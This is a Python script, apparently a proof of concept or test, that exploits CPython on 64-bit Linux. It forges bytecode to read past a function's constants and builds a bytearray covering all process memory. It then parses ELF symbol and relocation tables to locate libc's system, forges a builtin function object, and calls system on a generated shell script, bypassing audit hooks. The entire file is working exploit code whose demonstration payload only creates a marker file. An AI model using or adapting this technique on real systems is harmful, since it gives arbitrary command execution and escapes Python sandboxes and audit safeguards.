# bytecode that no compiler made reads past its constants: an object of one's own making, all memory, and libc's system
# by its address, past the audit hook and past whatever stands before libc
import opcode, os, struct, sys
m = sys.argv[1]; kept = []
if struct.calcsize("P") != 8: print("written for 64 bits"); sys.exit(77)

def function(): return 0
def pointed(address):
    """The object at an address: a constant whose place is beyond the tuple, where bytes of ours say where it is."""
    while True:
        constants = (None, len(kept)); place = bytes(bytearray(struct.pack("<Q", address))); kept.append((constants, place))
        number, rest = divmod(id(place) + bytes.__basicsize__ - 1 - id(constants) - tuple.__basicsize__, 8)
        if rest == 0 and 0 < number < 1 << 31: break
    code = bytes([opcode.opmap["RESUME"], 0]) if "RESUME" in opcode.opmap else b""
    for shift in 24, 16, 8: code += bytes([opcode.EXTENDED_ARG, number >> shift & 255])
    code += bytes([opcode.opmap["LOAD_CONST"], number & 255, opcode.opmap["RETURN_VALUE"], 0])
    function.__code__ = function.__code__.replace(co_code=code, co_consts=constants, co_stacksize=4)
    return function()
def address(data): data = bytes(bytearray(data)); kept.append(data); return id(data) + bytes.__basicsize__ - 1

class File:
    """What an ELF file says of its symbols and of where it keeps the addresses of others'."""
    def __init__(self, path):
        with open(path, "rb") as f: self.data = f.read()
        start, size, count = struct.unpack_from("<32xQ14xHH", self.data)
        heads = [struct.unpack_from("<IIQQQQQQ", self.data, start + i * size) for i in range(count)]
        self.loads = [head for head in heads if head[0] == 1]
        dynamic = next(head for head in heads if head[0] == 2)
        self.tags = dict(struct.unpack_from("<QQ", self.data, at) for at in range(dynamic[2], dynamic[2] + dynamic[5], 16))
    def at(self, virtual): return next(virtual - l[3] + l[2] for l in self.loads if l[3] <= virtual < l[3] + l[5])
    def name(self, symbol):
        text = self.at(self.tags[5]) + struct.unpack_from("<I", self.data, self.at(self.tags[6]) + 24 * symbol)[0]
        return self.data[text:self.data.index(b"\0", text)]
    def symbol(self, name):
        number = 0
        while self.name(number) != name or struct.unpack_from("<H", self.data, self.at(self.tags[6]) + 24 * number + 6)[0] == 0: number += 1
        return struct.unpack_from("<Q", self.data, self.at(self.tags[6]) + 24 * number + 8)[0]
    def slot(self, name):
        for table, size in (self.tags.get(23, 0), self.tags.get(2, 0)), (self.tags.get(7, 0), self.tags.get(8, 0)):
            for i in range(size // 24 if table else 0):
                where, info, _ = struct.unpack_from("<QQq", self.data, self.at(table) + 24 * i)
                if info >> 32 and self.name(info >> 32) == name: return where

import sysconfig
shared = os.path.join(os.path.dirname(os.path.dirname(os.__file__)), sysconfig.get_config_var("INSTSONAME") or "")
python = File(shared if shared.endswith(".so.1.0") and os.path.exists(shared) else "/proc/self/exe")
with open("/bin/true", "rb") as f: head = f.read(4096)
loader = next(part for part in head.split(b"\0") if part.startswith(b"/") and b"ld-" in part).decode()
libc = File(os.path.join(os.path.dirname(os.path.realpath(loader)), "libc.so.6"))
os.getpid()  # now its address is known to whoever calls it
memory = pointed(address(struct.pack("<QQqqQQQ", 1 << 20, id(bytearray), (1 << 63) - 1, 1 << 62, 0, 0, 0))); kept.append(memory)
base = id(int) - python.symbol(b"PyLong_Type"); slot = base + python.slot(b"getpid")
system = struct.unpack("<Q", memory[slot:slot + 8])[0] - libc.symbol(b"getpid") + libc.symbol(b"system")
with open("go", "w") as f: f.write("#!/bin/sh\n/bin/touch %s\n" % m)
os.chmod("go", 0o755)
# The function's first argument is the command, and to CPython an object: 8 bytes of a command that ends in a comment, and a type.
command = address(b"./go   #" + struct.pack("<QQQQQ", id(type(sys)), 0, 0, 0, 0))
method = address(struct.pack("<QQQQ", address(b"mine\0"), system, 1, 0))
call = pointed(address(struct.pack("<QQQQQQQ", 1 << 20, id(type(len)), method, command, 0, 0, 0))); kept.append(call)
try: call()
except SystemError as e: print(e)
os._exit(not os.path.exists(m))
